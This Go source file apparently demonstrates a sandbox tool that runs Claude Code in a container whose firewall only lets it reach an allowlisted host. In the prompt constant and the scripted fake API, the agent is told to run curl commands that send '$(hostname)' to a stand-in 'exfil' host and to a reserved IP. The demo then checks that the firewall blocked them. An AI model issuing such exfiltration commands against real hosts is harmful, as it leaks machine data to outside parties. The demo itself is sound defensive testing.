package demo

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/org/claude-sandbox/agent/transcript"
	"github.com/org/claude-sandbox/internal/diag"
	"github.com/org/claude-sandbox/internal/engine"
	"github.com/org/claude-sandbox/internal/exitcode"
	"github.com/org/claude-sandbox/internal/fakeapi"
	"github.com/org/claude-sandbox/internal/hostprogram"
	"github.com/org/claude-sandbox/sandbox"
)

// The demo's hosts. They live on a network that the demo makes, so it runs
// without the internet and can count what really arrived.
const (
	allowedHost = "docs.sandbox-demo.test"
	deniedHost  = "exfil.sandbox-demo.test"
	deniedAddr  = "192.0.2.1" // for documentation (RFC 5737): no machine has it
	image       = "claude-sandbox-demo:latest"
)

const prompt = `Run these three commands, one after the other, and report in one sentence what each of them did:
1. curl -sS -m 20 http://` + allowedHost + `/ | tee NOTES.md
2. curl -sS -m 20 http://` + deniedHost + `/?secret=$(hostname)
3. curl -sS -m 20 http://` + deniedAddr + `/?secret=$(hostname)`

// Demo is one showing. It drives the commands that a user would type.
type Demo struct {
	Out    io.Writer                             // what a user would see
	Getenv func(string) string                   // the user's environment
	Self   string                                // path of this program, to be timed
	Run    func(ctx context.Context, c Call) int // carries out a command and returns its exit code

	begin  time.Time
	dir    string // the repository
	engine *engine.Engine
}

// Call is one of our commands as a user types it.
type Call struct {
	Args   []string
	Stdin  io.Reader           // nil = the user's
	Stdout io.Writer           // nil = the user's
	Getenv func(string) string // nil = the user's
}

// Show does everything. Errors carry an exit code; a command that failed has said why.
func (d *Demo) Show(ctx context.Context) (err error) {
	d.begin = time.Now()
	if d.engine, err = engine.Connect(ctx); err != nil {
		return exitcode.With(sandbox.ExitCode(err), err)
	}
	defer d.engine.Close()
	work, err := os.MkdirTemp("", "sandbox-demo-")
	if err != nil {
		return exitcode.With(exitcode.Internal, err)
	}
	defer func() { _ = os.RemoveAll(work) }()
	d.dir = filepath.Join(work, "hello")
	if err := d.makeRepository(ctx); err != nil {
		return exitcode.With(exitcode.Internal, err)
	}

	d.title("A dev container for it, written and checked")
	if err := d.typed(ctx, Call{Args: []string{"init", "--yes", d.dir}}); err != nil {
		return err
	}
	if err := d.typed(ctx, Call{Args: []string{"validate", d.dir}}); err != nil {
		return err
	}
	d.title("Its image, built by the engine")
	if err := d.typed(ctx, Call{Args: []string{"image", "build", d.dir, "--tag", image}}); err != nil {
		return err
	}
	return d.runAgent(ctx, work)
}

// makeRepository makes a project such as a user might have.
func (d *Demo) makeRepository(ctx context.Context) error {
	d.title("A repository")
	if err := os.MkdirAll(d.dir, 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(d.dir, "README.md"), []byte("# hello\n"), 0o644); err != nil {
		return err
	}
	identity := []string{"-c", "user.name=demo", "-c", "user.email=demo@sandbox-demo.test"}
	git, err := hostprogram.Find("git")
	if err != nil {
		return diag.OrHint(err, "install git")
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"commit", "-q", "-m", "Say hello"}} {
		fmt.Fprintf(d.Out, "$ git %s\n", strings.Join(args, " "))
		cmd := exec.CommandContext(ctx, git, append(slices.Clone(identity), args...)...)
		cmd.Dir = d.dir
		if out, err := cmd.CombinedOutput(); err != nil {
			return diag.WithHint(fmt.Errorf("git %s: %w: %s", args[0], err, bytes.TrimSpace(out)), "install git")
		}
	}
	return nil
}

// runAgent is the main job.
func (d *Demo) runAgent(ctx context.Context, work string) error {
	internet, err := startInternet(ctx, d.engine)
	if err != nil {
		return exitcode.With(exitcode.NoStart, err)
	}
	defer internet.close(ctx)
	if os.Geteuid() == 0 { // the agent never is root
		if err := chownAll(d.dir, 1000); err != nil {
			return exitcode.With(exitcode.Internal, err)
		}
	}
	getenv, closeAPI, err := d.modelAPI()
	if err != nil {
		return exitcode.With(exitcode.Internal, err)
	}
	defer closeAPI()

	var claude bytes.Buffer
	summaryFile := filepath.Join(work, "summary.json")
	runErr := d.typed(ctx, Call{
		Args: []string{"run", d.dir, "--output-format", "stream-json", "--image", image, "--engine-network", internet.network,
			"--allow", allowedHost, "--private", allowedHost, "--timeout", "5m", "--summary-file", summaryFile},
		Stdin: strings.NewReader(prompt), Stdout: &claude, Getenv: getenv,
	})

	d.title("What Claude Code did")
	if err := transcript.Print(d.Out, &claude); err != nil {
		return exitcode.With(exitcode.CantWrite, err)
	}
	if runErr != nil {
		return runErr
	}
	d.title("What arrived on the other side")
	arrived, err := internet.arrivals(ctx)
	if err != nil {
		return exitcode.With(exitcode.Internal, err)
	}
	for _, host := range []string{allowedHost, deniedHost} {
		fmt.Fprintf(d.Out, "%-24s %d request(s)\n", host, arrived[host])
	}
	if err := d.figures(ctx, summaryFile); err != nil {
		return exitcode.With(exitcode.Internal, err)
	}
	if arrived[allowedHost] == 0 || arrived[deniedHost] != 0 {
		return exitcode.With(exitcode.Internal, fmt.Errorf("the demo failed: %s must be reached and %s must not", allowedHost, deniedHost))
	}
	return nil
}

// modelAPI returns the environment that run sees: the user's own when there is
// a key, otherwise one that leads to a scripted API on loopback.
func (d *Demo) modelAPI() (getenv func(string) string, closeAPI func(), err error) {
	if d.Getenv("ANTHROPIC_API_KEY") != "" || d.Getenv("CLAUDE_CODE_OAUTH_TOKEN") != "" {
		d.title("Claude Code in the sandbox, with the real model")
		return d.Getenv, func() {}, nil
	}
	d.title("Claude Code in the sandbox, with a SCRIPTED model (set ANTHROPIC_API_KEY for the real one)")
	const key = "sk-ant-scripted-demo-key"
	commands := strings.Split(prompt, "\n")[1:]
	api := &fakeapi.Server{APIKey: key, Script: fakeapi.Script{
		Turns: []fakeapi.Turn{
			{Text: "I fetch the documentation.", Bash: []string{strings.TrimPrefix(commands[0], "1. ")}},
			{Text: "Now the other host.", Bash: []string{strings.TrimPrefix(commands[1], "2. ")}},
			{Text: "And an address, without a name.", Bash: []string{strings.TrimPrefix(commands[2], "3. ")}},
		},
		Final: "The documentation was fetched into NOTES.md; the sandbox refused the second host and the address.",
	}}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, nil, fmt.Errorf("starting the scripted API: %w", err)
	}
	server := &http.Server{Handler: api}
	go func() { _ = server.Serve(listener) }()
	env := map[string]string{"ANTHROPIC_API_KEY": key, "SBX_DEVC_UPSTREAM": "http://" + listener.Addr().String()}
	return func(name string) string {
		if v, ok := env[name]; ok {
			return v
		}
		return d.Getenv(name)
	}, func() { _ = server.Close() }, nil
}

// typed runs one of our own commands as if a user had typed it.
func (d *Demo) typed(ctx context.Context, c Call) error {
	fmt.Fprintf(d.Out, "$ sbx-devc %s\n", strings.Join(c.Args, " "))
	if code := d.Run(ctx, c); code != 0 {
		return exitcode.With(code, nil) // the command has said why
	}
	return nil
}

func (d *Demo) title(text string) { fmt.Fprintf(d.Out, "\n── %s\n", text) }

// figures prints what the README promises about speed, measured just now.
func (d *Demo) figures(ctx context.Context, summaryFile string) error {
	data, err := os.ReadFile(summaryFile)
	if err != nil {
		return err
	}
	var summary struct{ Milliseconds map[string]int64 }
	if err := json.Unmarshal(data, &summary); err != nil {
		return fmt.Errorf("reading %s: %w", summaryFile, err)
	}
	version, err := timeVersion(ctx, d.Self)
	if err != nil {
		return err
	}
	d.title("Figures")
	ms := summary.Milliseconds
	for _, f := range []struct {
		what  string
		value time.Duration
		goal  string
	}{
		{"sbx-devc version", version, "20ms"},
		{"containers' start to the agent's start", time.Duration(ms["startup"]) * time.Millisecond, "2s"},
		{"of it the firewall", time.Duration(ms["firewall"]) * time.Millisecond, "150ms"},
		{"the whole demo", time.Since(d.begin), "90s once the image is built"},
	} {
		fmt.Fprintf(d.Out, "%-40s %8s   (goal: under %s)\n", f.what, f.value.Round(time.Millisecond), f.goal)
	}
	return nil
}

// timeVersion returns the median time of the program's version command.
func timeVersion(ctx context.Context, program string) (time.Duration, error) {
	var times []time.Duration
	for range 5 {
		begin := time.Now()
		if err := exec.CommandContext(ctx, program, "version").Run(); err != nil {
			return 0, fmt.Errorf("timing the version command: %w", err)
		}
		times = append(times, time.Since(begin))
	}
	slices.Sort(times)
	return times[len(times)/2], nil
}

// chownAll gives dir and everything below it to uid, links themselves and not
// what they lead to.
func chownAll(dir string, uid int) error {
	return filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
		return errors.Join(err, os.Lchown(path, uid, uid))
	})
}
